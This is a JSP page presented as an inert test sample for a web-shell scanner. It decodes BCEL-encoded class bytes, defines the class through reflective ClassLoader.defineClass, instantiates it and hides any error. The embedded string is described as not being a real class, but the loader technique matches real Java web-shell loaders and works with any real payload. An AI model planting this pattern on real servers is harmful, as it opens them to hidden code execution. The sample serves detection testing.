<%@ page import="java.lang.reflect.Method" %>
<%-- webhunt test sample (inert): class bytes kept as BCEL text, decoded with the JDK's internal
     BCEL decoder and defined in the context class loader through reflection. The text below is
     not a class file; it only has the shape of one. --%>
<%
    String k = "$ca$fe$ba$be$A$A$A4$A$n$K$A$C$A$D$H$A$E$M$A$F$A$G$B$A$Hsample$B$A$Kinert$_text$B$A$F$3cinit$3e";
    byte[] b = com.sun.org.apache.bcel.internal.classfile.Utility.decode(k, false);
    try {
        ClassLoader ld = Thread.currentThread().getContextClassLoader();
        Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        m.setAccessible(true);
        ((Class) m.invoke(ld, b, 0, b.length)).newInstance();
    } catch (Throwable t) {
        out.print("");
    }
%>
